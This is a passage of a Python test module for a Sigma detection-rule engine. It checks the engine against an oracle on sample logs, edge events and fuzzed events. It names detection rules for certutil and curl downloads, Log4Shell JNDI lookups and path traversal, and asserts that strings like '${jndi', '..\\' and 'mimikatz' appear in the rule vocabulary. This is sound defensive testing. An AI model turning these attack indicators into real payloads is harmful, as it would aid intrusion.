# --- tests: own rules on the samples, corpus rules on the workload --------------------------------------------------


def sample_events() -> list[Event]:
    files = sorted(path for path in samples().iterdir() if path.suffix in (".log", ".jsonl"))
    assert files, "no sample logs"
    return [event for path in files for event in collected(path)]


@pytest.mark.parametrize("generate_code", [True, False], ids=["generated", "closures"])
def test_own_rules_on_samples(generate_code: bool) -> None:
    paths = (sigma_rules(),)
    events = sample_events()
    comparison = assert_agree(paths, events, generate_code)
    assert comparison.matches > 50  # the samples are written to trigger the team's rules


def make_events(out: Path, scale: float) -> Path:
    if not WORKLOADS.is_file():
        pytest.skip(f"workload generator {WORKLOADS} is not present")
    subprocess.run([sys.executable, str(WORKLOADS), str(out), "--only", "events", "--scale", str(scale)],
                   check=True, capture_output=True, cwd=out)
    return out / "events.jsonl"


@pytest.mark.parametrize("generate_code", [True, False], ids=["generated", "closures"])
def test_corpus_rules_on_workload(corpus: Path, tmp_path: Path, generate_code: bool) -> None:
    paths = corpus_rules(corpus)
    events = collected(make_events(tmp_path, 0.01))
    assert len(events) == 2000 and {event.logsource for event in events} == {WINDOWS_PROCESS}
    comparison = assert_agree(paths, events, generate_code)
    assert comparison.rules >= 100 and comparison.matches > 0


@pytest.mark.slow
def test_corpus_rules_on_larger_workload(corpus: Path, tmp_path: Path) -> None:
    paths = corpus_rules(corpus)
    events = collected(make_events(tmp_path, 0.1))
    assert_agree(paths, events)


# --- tests: edge cases -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(EDGE_EVENTS))
@pytest.mark.parametrize("generate_code", [True, False], ids=["generated", "closures"])
def test_edge_event_with_edge_rules(edge_rules: tuple[Path, ...], name: str, generate_code: bool) -> None:
    assert_agree(edge_rules, [edge_event(name, EDGE_EVENTS[name])], generate_code)


@pytest.mark.parametrize("name", list(EDGE_EVENTS))
def test_edge_event_with_corpus_rules(corpus: Path, name: str) -> None:
    assert_agree(corpus_rules(corpus), [edge_event(name, EDGE_EVENTS[name])])


def verdict(paths: tuple[Path, ...], rule_name: str, event: Event, corrections: frozenset[str]) -> bool:
    rules = {rule.id: rule for rule in seccenter_rules(paths).rules}
    return bool(oracle_pairs(paths, [event], rules, corrections, only={edge_rule_id(rule_name)}))


def seccenter_verdict(paths: tuple[Path, ...], rule_name: str, event: Event, generate_code: bool = True) -> bool:
    rule = next(rule for rule in seccenter_rules(paths).rules if rule.id == edge_rule_id(rule_name))
    return bool(Engine([rule], generate_code=generate_code).match(event))


ORACLE_ERROR_CASES = {
    "empty_cmdline_and_parent": "null_matches_empty",
    "pid_text_4_0": "numbers_compared_as_text",
    "pid_float_4": "numbers_compared_as_text",
    "pid_text_leading_zero": "numbers_compared_as_text",
    "pid_text_exponent": "numbers_compared_as_text",
    "pid_text_plus": "numbers_compared_as_text",
    "pid_text_small": "numbers_compared_as_text",
    "pid_text_exponent_big": "numbers_compared_as_text",
    "pid_text_overflow": "numbers_compared_as_text",
    "pid_true": "numbers_compared_as_text",
    "pid_nan": "numbers_compared_as_text",
    "ppid_empty": "numbers_compared_as_text",
    "ppid_dash": "numbers_compared_as_text",
    "elevated_int_1": "boolean_matches_integer",
    "elevated_text_1": "boolean_matches_integer",
    "ip_trailing_space": "cidr_as_text_prefix",
    "unicode_lower_umlaut": "ascii_only_case_folding",
    "unicode_mixed_umlaut": "ascii_only_case_folding",
    "fieldref_umlaut_case": "ascii_only_case_folding",
}
"""Every edge event on which the oracle is wrong with the edge rules, and which of its errors it shows."""


@pytest.mark.parametrize(("name", "error"), ORACLE_ERROR_CASES.items())
def test_oracle_error_is_real(edge_rules: tuple[Path, ...], name: str, error: str) -> None:
    """The raw oracle differs from seccenter on the event, and the one correction for its error removes that."""
    events = [edge_event(name, EDGE_EVENTS[name])]
    rules = {rule.id: rule for rule in seccenter_rules(edge_rules).rules}
    ours = seccenter_pairs(engine_for(edge_rules, frozenset(rules), True), events)
    assert oracle_pairs(edge_rules, events, rules) != ours, f"{name}: the oracle is right here"
    assert oracle_pairs(edge_rules, events, rules, frozenset({error})) == ours


def test_every_oracle_error_has_cases() -> None:
    assert set(ORACLE_ERROR_CASES.values()) == set(ERRORS_BY_NAME)
    assert set(ORACLE_ERROR_CASES) <= set(EDGE_EVENTS)


def test_corrections_change_nothing_where_the_oracle_is_right(edge_rules: tuple[Path, ...]) -> None:
    """The corrected oracle differs from the raw one on exactly the documented cases, and not at all on the samples:
    the corrections are narrow, not a second implementation that happens to agree with seccenter."""
    paths = (sigma_rules(),)
    events = sample_events()
    rules = {rule.id: rule for rule in seccenter_rules(paths).rules}
    assert oracle_pairs(paths, events, rules) == oracle_pairs(paths, events, rules, ALL_CORRECTIONS)
    edge = {rule.id: rule for rule in seccenter_rules(edge_rules).rules}
    changed = set()
    for name, data in EDGE_EVENTS.items():
        events = [edge_event(name, data)]
        if oracle_pairs(edge_rules, events, edge) != oracle_pairs(edge_rules, events, edge, ALL_CORRECTIONS):
            changed.add(name)
    assert changed == set(ORACLE_ERROR_CASES)


@pytest.mark.parametrize("name", [
    pytest.param(name, marks=() if name in FIXED_FAULTS else pytest.mark.xfail(strict=True, reason=fault.why))
    for name, fault in SECCENTER_FAULTS.items()])
def test_seccenter_fault(edge_rules: tuple[Path, ...], name: str) -> None:
    fault = SECCENTER_FAULTS[name]
    event = edge_event(name, fault.line)
    assert seccenter_verdict(edge_rules, fault.rule, event) == fault.expected
    assert seccenter_verdict(edge_rules, fault.rule, event, generate_code=False) == fault.expected


@pytest.mark.parametrize("name", list(SECCENTER_FAULTS))
def test_seccenter_fault_is_not_an_oracle_error(edge_rules: tuple[Path, ...], name: str) -> None:
    """The oracle's verdict on each known seccenter fault is the expected one, with or without corrections."""
    fault = SECCENTER_FAULTS[name]
    event = edge_event(name, fault.line)
    assert seccenter_fault_trigger(event.fields) == name
    assert verdict(edge_rules, fault.rule, event, frozenset()) == fault.expected
    assert verdict(edge_rules, fault.rule, event, ALL_CORRECTIONS) == fault.expected


# --- tests: random events built from the rules' own literals -------------------------------------------------------


def _walk(node: Any) -> Iterator[Any]:
    yield node
    for arg in getattr(node, "args", ()):
        yield from _walk(arg)


def _literals(value: Any) -> Iterator[Any]:
    if isinstance(value, SigmaExpansion):
        for item in value.values:
            yield from _literals(item)
    elif isinstance(value, SigmaString):
        yield "".join(part if isinstance(part, str) else "" if part is SpecialChars.WILDCARD_MULTI else "Q"
                      for part in value.s)
    elif isinstance(value, SigmaNumber):
        yield from (value.number, str(value.number))
    elif isinstance(value, SigmaCompareExpression):
        number = value.number.number
        yield from (number, number + 1, number - 1, str(number + 1), str(number - 1))
    elif isinstance(value, SigmaBool):
        yield from (value.boolean, str(value.boolean).lower())
    elif isinstance(value, SigmaCIDRExpression):
        yield from (str(value.network.network_address), str(value.network.network_address + 1))


@dataclass
class Vocabulary:
    """What a handful of rules look at: their fields, the literals per field, keywords, field references."""

    fields: dict[str, list[Any]] = field(default_factory=dict)
    keywords: list[str] = field(default_factory=list)
    references: list[tuple[str, str]] = field(default_factory=list)

    @property
    def texts(self) -> list[str]:
        found = {value for values in self.fields.values() for value in values if isinstance(value, str)}
        return sorted(found | set(self.keywords)) or ["x"]


def vocabulary(rules: Iterable[Any]) -> Vocabulary:
    found = Vocabulary()
    for rule in rules:
        for condition in rule.detection.parsed_condition:
            for node in _walk(condition.parsed):
                if isinstance(node, ConditionFieldEqualsValueExpression):
                    values = found.fields.setdefault(node.field, [])
                    values.extend(value for value in _literals(node.value) if value not in values)
                    if isinstance(node.value, SigmaFieldReference):
                        found.fields.setdefault(node.value.field, [])
                        found.references.append((node.field, node.value.field))
                elif isinstance(node, ConditionValueExpression):
                    found.keywords.extend(value for value in _literals(node.value) if isinstance(value, str))
    return found


NOISE = "aZ09 .-_/\\%*?[]:'\"\t,;$(){}ÄäßÖ\u212aé€😀"
"""No U+0130 and no non-ASCII digits: those hit known seccenter faults (SECCENTER_FAULTS)."""

CASES: list[Callable[[str], str]] = [str, str.upper, str.lower, str.swapcase]


def events_from(words: Vocabulary, logsources: Sequence[LogSource]) -> st.SearchStrategy[tuple[LogSource, dict]]:
    noise = st.text(alphabet=NOISE, max_size=4)
    texts = st.sampled_from(words.texts)

    def value(name: str) -> st.SearchStrategy[Any]:
        own = [literal for literal in words.fields[name] if isinstance(literal, str)] or words.texts
        others = [literal for literal in words.fields[name] if not isinstance(literal, str)]
        text = st.tuples(st.lists(st.one_of(st.sampled_from(own), texts, noise), max_size=3).map("".join),
                         st.sampled_from(CASES)).map(lambda pair: pair[1](pair[0]))
        options = [text, text, text, st.sampled_from(["", "-", "0"]), st.none(),
                   st.sampled_from([4.5, -0.25, 60000.5, 1 << 64])]
        if others:
            options.append(st.sampled_from(others))
        return st.one_of(options)

    @st.composite
    def event(draw: st.DrawFn) -> tuple[LogSource, dict]:
        fields = draw(st.fixed_dictionaries({}, optional={name: value(name) for name in words.fields}))
        for left, right in words.references:  # field references need equal values now and then
            if left in fields and isinstance(fields[left], str) and draw(st.booleans()):
                fields[right] = draw(st.sampled_from(CASES))(fields[left])
        if words.keywords and draw(st.booleans()):
            fields["Message"] = draw(st.sampled_from(CASES))(draw(st.sampled_from(words.keywords)) + draw(noise))
        return draw(st.sampled_from(logsources)), fields

    return event()


def check_random_event(paths: tuple[Path, ...], logsource: LogSource, fields: dict[str, Any]) -> None:
    assume(seccenter_fault_trigger(fields) is None)
    event = Event(datetime(2026, 11, 24, tzinfo=UTC), "hypothesis", logsource, fields,
                  json.dumps(fields, ensure_ascii=False), Origin("hypothesis", 0, 1))
    for generate_code in (True, False):
        comparison = compare(paths, [event], generate_code)
        assert not comparison.unexplained, comparison.describe(paths, [event])
    hypothesis.event("matches" if comparison.matches else "no match")
    for name in comparison.explained:
        hypothesis.event(f"oracle error: {name}")


RandomRules = tuple[tuple[Path, ...], Vocabulary, list[LogSource]]


OWN_HANDFUL = ("linux_auth_ssh_invalid_user.yml", "linux_auth_su_failed.yml", "linux_auth_sudo_shell.yml",
               "linux_auth_user_created.yml", "web_path_traversal.yml", "web_log4shell_jndi_lookup.yml")


@pytest.fixture(scope="module")
def random_rules(edge_rules: tuple[Path, ...]) -> RandomRules:
    paths = (*(sigma_rules() / name for name in OWN_HANDFUL), *edge_rules)
    for path in paths:
        assert path.exists(), path
    logsources = sorted({rule.logsource for rule in seccenter_rules(paths).rules}, key=repr)
    return paths, vocabulary(sigma_rules_of(paths)), logsources


QUICK = settings(max_examples=150, deadline=None,
                 suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
THOROUGH = settings(QUICK, max_examples=3000)


def own_and_edge_case(random_rules: RandomRules, data: st.DataObject) -> None:
    paths, words, logsources = random_rules
    logsource, fields = data.draw(events_from(words, logsources))
    check_random_event(paths, logsource, fields)


CORPUS_HANDFUL = ("proc_creation_win_certutil_download.yml", "proc_creation_win_attrib_hiding_files.yml",
                  "proc_creation_win_susp_cross_user_process_spawn.yml", "proc_creation_win_mofcomp_execution.yml",
                  "proc_creation_win_curl_download_direct_ip_exec.yml", "proc_creation_win_susp_non_exe_image.yml",
                  "proc_creation_win_susp_right_to_left_override.yml",
                  "proc_creation_win_vmware_vmtoolsd_susp_child_process.yml")


def corpus_case(corpus: Path, data: st.DataObject) -> None:
    folder = corpus_rules(corpus)[0]
    paths = tuple(folder / name for name in CORPUS_HANDFUL if (folder / name).is_file())
    assert paths, "none of the chosen corpus rules is present"
    logsource, fields = data.draw(events_from(corpus_vocabulary(paths), [WINDOWS_PROCESS]))
    check_random_event(paths, logsource, fields)


@QUICK
@given(data=st.data())
def test_random_events_own_and_edge_rules(random_rules: RandomRules, data: st.DataObject) -> None:
    own_and_edge_case(random_rules, data)


@QUICK
@given(data=st.data())
def test_random_events_corpus_rules(corpus: Path, data: st.DataObject) -> None:
    corpus_case(corpus, data)


@pytest.mark.slow
@THOROUGH
@given(data=st.data())
def test_many_random_events_own_and_edge_rules(random_rules: RandomRules, data: st.DataObject) -> None:
    own_and_edge_case(random_rules, data)


@pytest.mark.slow
@THOROUGH
@given(data=st.data())
def test_many_random_events_corpus_rules(corpus: Path, data: st.DataObject) -> None:
    corpus_case(corpus, data)


@functools.cache
def corpus_vocabulary(paths: tuple[Path, ...]) -> Vocabulary:
    return vocabulary(sigma_rules_of(paths))


def test_vocabulary_reaches_the_rules(random_rules: RandomRules) -> None:
    """The random events can hit the rules: literals, numbers, booleans, addresses and references are drawn."""
    _, words, logsources = random_rules
    assert "..\\" in words.texts and "${jndi" in words.texts
    assert 4 in words.fields["ProcessId"] and True in words.fields["Elevated"]
    assert "10.0.0.1" in words.fields["SourceIp"] and ("User", "ParentUser") in words.references
    assert "mimikatz" in words.keywords and len(logsources) >= 3
